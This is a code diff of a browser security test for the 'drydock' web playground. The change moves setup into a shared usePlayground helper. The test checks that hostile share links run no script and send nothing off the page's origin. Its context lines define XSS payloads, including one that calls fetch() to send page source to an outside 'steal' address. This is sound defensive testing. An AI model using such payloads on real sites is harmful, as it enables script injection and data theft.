@@ -4,8 +4,8 @@
 // that no script ran (the payloads set window.__pwned), no element of the payload became live in
 // the tooltip, and no request left the page's origin (they also fetch an outside address).
 import { deflateRawSync } from 'node:zlib';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CHROMIUM, openPage, startPlayground, type PageWithErrors, type Playground } from './chromium';
+import { describe, expect, it } from 'vitest';
+import { CHROMIUM, openPage, type PageWithErrors, usePlayground } from './chromium';
 
 const OUTSIDE = 'http://198.51.100.7/steal';
 const run = (tag: string) => `window.__pwned='${tag}';fetch('${OUTSIDE}?d='+encodeURIComponent(window.drydock.source().slice(0,40)))`;
@@ -47,14 +47,7 @@ const CASES: Case[] = [
   { name: 'a ship name drawn on the sheet', source: `ruleset sfb\nship Zz {\n  name: "${img('sheet').replace(/"/g, "'")}"\n  sizeClass: 4\n  ionCannon A { arc: FA }\n}\n` },
 ];
 
-let pg: Playground;
-
-beforeAll(async () => {
-  if (CHROMIUM) pg = await startPlayground();
-}, 240000);
-afterAll(async () => {
-  await pg?.close();
-});
+const pg = usePlayground();
 
 async function offsetCoords(page: PageWithErrors, offset: number) {
   return page.evaluate((o) => {
@@ -82,7 +75,7 @@ async function liveParts(page: PageWithErrors) {
 
 describe.skipIf(!CHROMIUM && !process.env.CI)('hostile share links in Chromium', { retry: 1 }, () => {
   it('the page states a strict Content Security Policy', async () => {
-    const page = await openPage(pg);
+    const page = await openPage(pg());
     const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (e) => e.getAttribute('content') ?? '');
     expect(csp).toMatch(/script-src 'self'(;|$)/);
     expect(csp).toMatch(/connect-src 'self'(;|$)/);
@@ -92,7 +85,7 @@ describe.skipIf(!CHROMIUM && !process.env.CI)('hostile share links in Chromium',
 
   for (const c of CASES) {
     it(`${c.name}: no script runs and nothing leaves the origin`, async () => {
-      const page = await openPage(pg, shareHash(c.source));
+      const page = await openPage(pg(), shareHash(c.source));
       await page.waitForFunction((t) => (window as unknown as { drydock: { source(): string } }).drydock.source() === t, { timeout: 30000 }, c.source).catch(async () => {
         throw new Error(`the page did not open the link's source: ${JSON.stringify(await page.evaluate(() => (window as unknown as { drydock: { source(): string } }).drydock.source()))}`);
       });
@@ -128,7 +121,7 @@ describe.skipIf(!CHROMIUM && !process.env.CI)('hostile share links in Chromium',
       await page.evaluate(() => (window as unknown as { drydock: { client: { request(m: string, p: unknown): Promise<unknown> } } }).drydock.client.request('drydock/ships', { uri: 'file:///playground/ship.ship' }).catch(() => undefined));
       expect(await liveParts(page)).toEqual([]);
       expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
-      const origin = new URL(pg.url).origin;
+      const origin = new URL(pg().url).origin;
       const off = page.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'));
       expect(off).toEqual([]);
       await page.close();
